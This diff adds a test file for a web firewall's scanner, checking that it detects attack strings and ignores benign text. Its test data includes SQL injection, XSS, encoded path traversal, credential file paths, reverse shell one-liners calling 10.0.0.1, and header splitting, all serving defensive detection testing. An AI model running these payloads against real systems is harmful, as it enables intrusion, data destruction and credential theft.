@@ -1,0 +1,75 @@
+import { describe, expect, it } from 'vitest'
+import { threats } from './kinds.ts'
+import { scanValue } from './scan.ts'
+
+/** A text as the firewall sees it: one code unit for each byte of UTF-8. */
+const bytes = (text: string) => Buffer.from(text, 'utf8').toString('latin1')
+
+const kinds = (text: string) => {
+  const found = scanValue(bytes(text), 'query', -1)
+  return Object.entries(threats).flatMap(([name, bit]) => ((found & bit) === 0 ? [] : [name]))
+}
+
+describe('what is found in a value', () => {
+  it.each<[keyof typeof threats, string]>([
+    // Blanks that databases take for one.
+    ['sqli', `'\u00a0or\u00a01\u00a0in\u00a0(1)--`],
+    ['sqli', `1\u00a0union\u00a0all\u00a0select\u00a0name`],
+    // Comments between the words of a statement.
+    ['sqli', `';--x\nTRUNCATE--x\nTABLE--x\nlogs;--`],
+    ['sqli', `1#x\nwaitfor#x\ndelay#x\n'0:0:15' --`],
+    ['sqli', `'; CREATE OR REPLACE FUNCTION f(cstring) RETURNS int AS 'x','y' LANGUAGE 'C';--`],
+    ['sqli', `1';IF(9193=9691) SELECT 2633 ELSE DROP FUNCTION a--`],
+    ['sqli', `1");IIF(9215=8408,1,1/0)%16`],
+    ['sqli', `1';BEGIN USER_LOCK.SLEEP(5); END--`],
+    ['sqli', `(9205=4625)*6587`],
+    ['sqli', `'-0||'`],
+    ['sqli', `1' -- wXyZ`],
+    ['sqli', `-1" || 2+159-159-1=0+0+0+1 --`],
+    ['sqli', `1 OR jsonb_exists('{"a":1}'::jsonb,'a')`],
+    ['sqli', `' or data @> '{"a":"b"}' --`],
+    ['sqli', `' UNION VALUES ROW(1,2)--`],
+    ['sqli', `'; SET ROLE postgres;--`],
+    ['xss', `self[atob('YWxlcnQ=')](1)`],
+    ['xss', `<portal src="https://evil.example/">`],
+    // Climbing, written in other ways.
+    ['traversal', `%uff0e%uff0e%u2215%uff0e%uff0e%u2215boot.ini`],
+    ['traversal', `..%c0%2f..%c0%2fboot.ini`],
+    ['traversal', `%c0%2e%c0%2e/%c0%2e%c0%2e/boot.ini`],
+    ['traversal', `..0x2f..0x2fboot.ini`],
+    ['traversal', `0x2e0x2e/0x2e0x2e/boot.ini`],
+    ['traversal', `./\\/././\\/./boot.ini`],
+    ['traversal', `./.././.././../file`],
+    ['traversal', `.//..//.//..//file`],
+    // Paths with blanks about them, doubled slashes, and the other slash.
+    ['systemFile', ` /etc/issue `],
+    ['systemFile', `//home//ubuntu//.ssh//authorized_keys`],
+    ['systemFile', `/./proc/./self/./environ`],
+    ['systemFile', `\\proc\\self\\environ`],
+    ['systemFile', `\\etc\\apache2\\apache2.conf`],
+    ['systemFile', `/home/ec2-user/.aws/config`],
+    ['systemFile', `C:\\Users\\Administrator\\.ssh\\id_rsa`],
+    ['systemFile', `/opt/app/.env`],
+    ['unixShell', `ruby -rsocket -e 'exit if fork;c=TCPSocket.new("10.0.0.1","4242")'`],
+    ['unixShell', `socat tcp-connect:10.0.0.1:4444 exec:/bin/sh,pty,stderr`],
+    ['unixShell', `--output=/var/www/html/x.php`],
+    ['windowsShell', `schtasks /create /tn x /tr calc.exe /sc once`],
+    ['php', `";exit(md5('a1b2'));//`],
+    ['headerSplit', `\u560a\u560dSet-Cookie:x=1`],
+  ])('finds %s in %s', (kind, text) => {
+    expect(kinds(text)).toContain(kind)
+  })
+
+  it.each([
+    `<h1>Title</h1><p class="lead">Intro &amp; more</p>`,
+    `exec@company.com`,
+    `benchmark (2024) results`,
+    `2 or more = discount`,
+    `cat /proc/cpuinfo shows the CPU`,
+    `6' -- 8' boards`,
+    `24" -- NEW`,
+    `12" vinyl -- like new`,
+  ])('finds nothing in %s', (text) => {
+    expect(kinds(text)).toEqual([])
+  })
+})
